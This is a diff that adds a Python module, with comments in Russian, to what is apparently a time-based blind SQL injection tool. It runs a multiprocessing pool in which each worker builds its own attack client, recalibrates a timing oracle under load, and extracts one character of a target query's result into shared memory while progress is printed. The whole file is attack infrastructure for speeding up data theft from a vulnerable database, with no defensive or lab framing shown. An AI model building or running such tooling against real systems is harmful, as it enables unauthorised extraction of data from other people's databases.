@@ -0,0 +1,128 @@
+import os
+import sys
+import multiprocessing
+from typing import Dict, List, Optional, Tuple
+
+from attack import HFTSQLiAttack
+from charmodel import CharModel
+from oracles import TimingOracle
+from results import ProbeStore
+
+
+# Состояние процесса-воркера: у каждого свой клиент и свои соединения
+_worker_attack = None
+_worker_chars = None
+_worker_stale = None
+
+# Без оракула RTT-порог тоже калибруется в пуле, а не берется константой
+POOL_RTT_STATE = {'name': 'rtt', 'path': '/check', 'threshold': None, 'samples': 5}
+
+# Значения ячеек общего массива
+PENDING = 0
+FAILED = -1
+
+
+def _init_worker(chars, stale, base_url: str, transport: str, oracle_state: Dict,
+                 char_model: Optional[CharModel], store_path: Optional[str]):
+    global _worker_attack, _worker_chars, _worker_stale
+
+    # Построчный вывод воркеров перемешался бы, прогресс показывает родитель
+    sys.stdout = open(os.devnull, 'w')
+
+    _worker_chars = chars
+    _worker_stale = stale
+    _worker_attack = HFTSQLiAttack(base_url, transport=transport, char_model=char_model)
+    if store_path is not None:
+        # Своя часть хранилища (файлы с pid воркера) - без общей записи
+        _worker_attack.store = ProbeStore(store_path)
+
+    oracle = TimingOracle.from_state(_worker_attack, oracle_state)
+    # RTT зависит от нагрузки, которую создают соседние воркеры: порог
+    # калибруется заново в условиях этой нагрузки. Не разделились классы -
+    # порог одного процесса здесь неверен, извлечение в пуле отменяется
+    if oracle.name == 'rtt' and oracle.calibrate() is None:
+        stale.value = 1
+    _worker_attack.oracle = oracle
+
+
+def _extract_cell(task: Tuple[int, str, int]) -> Tuple[int, int, List[int]]:
+    slot, query, position = task
+    attack = _worker_attack
+    if _worker_stale.value:
+        _worker_chars[slot] = FAILED
+        return 0, 0, []
+    requests_before, failed_before = attack.request_count, attack.failed_requests
+    probes_before = len(attack.char_probes)
+
+    char = attack.extract_char_optimized(position, query)
+    # Запись в свою ячейку общей памяти - без блокировок
+    _worker_chars[slot] = ord(char) if char else FAILED
+    if attack.store is not None:
+        # Пул завершает воркеры без финализации - буфер сбрасывается на каждой задаче
+        attack.store.flush()
+
+    return (attack.request_count - requests_before,
+            attack.failed_requests - failed_before,
+            attack.char_probes[probes_before:])
+
+
+def render_progress(chars) -> str:
+    """Снимок общего массива: '·' - в работе, '?' - не извлечено"""
+    out = []
+    for code in chars[:]:
+        if code == PENDING:
+            out.append('·')
+        elif code == FAILED:
+            out.append('?')
+        else:
+            out.append(chr(code))
+    return ''.join(out)
+
+
+def extract_parallel(attack: HFTSQLiAttack, query: str, length: int, processes: int,
+                     progress_interval: float = 0.25) -> Optional[str]:
+    """
+    Извлекает позиции 1..length строки query пулом процессов.
+    Результаты пишутся в общий массив без блокировки (каждая ячейка
+    принадлежит одной задаче), родитель опрашивает его для вывода прогресса.
+    Счетчики запросов воркеров добавляются к счетчикам attack.
+    None - RTT-оракул не калибруется под нагрузкой пула, извлекать нужно
+    в одном процессе.
+    """
+    processes = max(1, min(processes, length, os.cpu_count() or 1))
+    chars = multiprocessing.Array('i', length, lock=False)
+    stale = multiprocessing.Value('i', 0, lock=False)
+
+    oracle_state = attack.oracle.state() if attack.oracle is not None else POOL_RTT_STATE
+
+    tasks = [(pos - 1, query, pos) for pos in range(1, length + 1)]
+    print(f"  Процессов: {processes}")
+
+    with multiprocessing.Pool(
+        processes,
+        initializer=_init_worker,
+        initargs=(chars, stale, attack.base_url, attack.transport, oracle_state, attack.char_model,
+                  attack.store.path if attack.store is not None else None)
+    ) as pool:
+        pending = pool.map_async(_extract_cell, tasks, chunksize=1)
+
+        last = None
+        while not pending.ready():
+            current = render_progress(chars)
+            if current != last:
+                print(f"    Прогресс: '{current}'")
+                last = current
+            pending.wait(progress_interval)
+
+        for requests_made, failed, probes in pending.get():
+            attack.request_count += requests_made
+            attack.failed_requests += failed
+            attack.char_probes.extend(probes)
+
+    if stale.value:
+        print("    RTT-порог не отделяет классы под нагрузкой пула: извлечение в одном процессе")
+        return None
+
+    result = render_progress(chars)
+    print(f"    Прогресс: '{result}'")
+    return result